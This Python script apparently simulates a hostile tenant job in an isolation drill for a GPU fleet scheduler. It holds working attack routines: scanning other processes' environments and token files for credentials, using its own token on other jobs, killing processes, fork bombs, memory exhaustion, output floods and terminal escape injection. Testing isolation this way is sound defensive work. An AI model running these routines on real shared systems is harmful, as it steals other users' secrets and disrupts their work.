"""The command of jobs that mean harm. What one gets that it must not have, it writes to a file of its own in LOOT.

    hostile.py LOOT PLACE PACKAGES HOW

`PLACE` is the drill's folder, which it knows where everything is in; `PACKAGES` is where gpuctl is installed; `HOW` is
one of the means of mal.py. Where the fleet fails to stop it, the machine that a drill runs on is not harmed: numbers
and sizes are small, and what is killed is of this drill alone.
"""

from __future__ import annotations

import contextlib
import os
import resource
import signal
import subprocess
import sys
import time
from collections.abc import Iterator
from pathlib import Path

BOMB_PROCESSES, BOMB_DEPTH = 30, 3
FLOODERS, FLOOD_BYTES = 4, 2_000_000
EATEN_BYTES, EATEN_AT_ONCE = 600_000_000, 20_000_000
FORKS = 300
DAEMON_SECONDS = 600.0
OTHERS = 2
"""So many jobs before its own it asks for."""

ESCAPES = (
    b"\x1b]0;owned\x07\x1b]52;c;b3duZWQ=\x07\x1b[2J\x1b[6n\x1bP$q q\x1b\\\x9b5n\x1b]8;;http://x\x07here\x1b]8;;\x07\n"
)

loot_folder, place, packages, how = Path(sys.argv[1]), sys.argv[2], sys.argv[3], sys.argv[4]
job = os.environ["GPUFLEET_JOB_ID"]


def take(text: str) -> None:
    """Note what it got."""
    with (loot_folder / f"{job}.{os.getpid()}").open("a") as file:
        file.write(f"job {job} {how}: {text}\n")


def asks() -> None:
    """Use its own token for what is others'."""
    own = int(job)
    gpuctl = (
        f"import site, runpy; site.addsitedir({packages!r}); runpy.run_module('gpufleet.cli', None, '__main__', True)"
    )
    for other in range(max(1, own - OTHERS), own):
        for words in (("job", f"{other}", "-o", "json"), ("logs", f"{other}"), ("cancel", f"{other}")):
            done = subprocess.run([sys.executable, "-P", "-c", gpuctl, *words], check=False, capture_output=True)
            if done.returncode == 0:
                take(f"gpuctl {' '.join(words)} was answered: {done.stdout[:200]!r}")
            if b"Traceback" in done.stderr:
                take(f"gpuctl {' '.join(words)}: {done.stderr[-500:]!r}")


def floods() -> None:
    """Several processes print as fast as they can."""
    for _ in range(FLOODERS):
        if os.fork() == 0:
            for _ in range(FLOOD_BYTES // 10_000):
                os.write(1, b"x" * 9_999 + b"\n")
            os._exit(0)
    for _ in range(FLOODERS):
        os.wait()


def changes_terminals() -> None:
    """Print what does something to a terminal."""
    for _ in range(200):
        os.write(1, ESCAPES)
        os.write(2, ESCAPES)
        time.sleep(0.005)


def bombs(depth: int = BOMB_DEPTH) -> None:
    """Leave children of children behind, in groups and sessions of their own."""
    for number in range(BOMB_PROCESSES if depth == BOMB_DEPTH else 1):
        try:
            pid = os.fork()
        except OSError:
            return
        if pid == 0:
            if number % 2:
                os.setsid()
            if depth > 1:
                bombs(depth - 1)
            time.sleep(DAEMON_SECONDS)
            os._exit(0)
    time.sleep(0.5)


def daemon() -> None:
    """Leave a process behind that has nothing of the job: not its session, its parent, its environment, its folder."""
    if os.fork() == 0:
        os.setsid()
        if os.fork() == 0:
            os.chdir("/")
            sleeper = f"import time; time.sleep({DAEMON_SECONDS})"
            os.closerange(0, 256)
            os.execve(sys.executable, [sys.executable, "-S", "-E", "-c", sleeper], {})
        os._exit(0)
    os.wait()
    time.sleep(0.3)


def reads() -> None:
    """Look into everybody's processes, and into the folders of agent and scheduler."""
    for pid in others():
        with contextlib.suppress(OSError):
            environ = Path(f"/proc/{pid}/environ").read_bytes()
            if b"DRILLS_VALUE=" in environ or b"OUTSIDERS_VALUE=" in environ or b"GPUFLEET_JOB_TOKEN=" in environ:
                take(f"it read the environment of process {pid}")
    kept = Path(place)
    for pattern in ("fleet/*/*.token", "fleet/*/credential.token", "fleet/*/keeper/**/*", "outsider/*.token"):
        with contextlib.suppress(OSError):
            for file in kept.glob(pattern):
                with contextlib.suppress(OSError):
                    if file.is_file():
                        file.read_bytes()
                        take(f"it read {file}")
                        return


def kills() -> None:
    """End whatever of this drill it can see and reach, the keeper first."""
    for pid in others():
        with contextlib.suppress(OSError):
            command = Path(f"/proc/{pid}/cmdline").read_bytes()
            if place.encode() not in command:
                continue
            os.kill(pid, signal.SIGKILL)
            take(f"it ended process {pid}: {command[:200]!r}")


def eats() -> None:
    """Take more memory than it asked for."""
    resource.setrlimit(resource.RLIMIT_CORE, (0, 0))
    eaten = []
    for _ in range(EATEN_BYTES // EATEN_AT_ONCE):
        eaten.append(b"\1" * EATEN_AT_ONCE)
        time.sleep(0.02)
    take(f"it has {sum(map(len, eaten))} bytes, and asked for a third")


def forks() -> None:
    """Start more processes than it may have."""
    for _ in range(FORKS):
        try:
            pid = os.fork()
        except OSError:
            return
        if pid == 0:
            time.sleep(DAEMON_SECONDS)
            os._exit(0)
    take(f"it has {FORKS} processes, and may have a third")


def others() -> Iterator[int]:
    """Processes that it can see and that are neither it nor above it."""
    own = {os.getpid(), os.getppid()}
    for entry in Path("/proc").iterdir():
        if entry.name.isdecimal() and int(entry.name) not in own:
            yield int(entry.name)


if __name__ == "__main__":
    print(f"{job} {how}", flush=True)
    {
        "asks for others' jobs": asks,
        "floods": floods,
        "changes terminals": changes_terminals,
        "bombs": bombs,
        "daemon": daemon,
        "reads": reads,
        "kills": kills,
        "eats memory": eats,
        "forks": forks,
    }[how]()
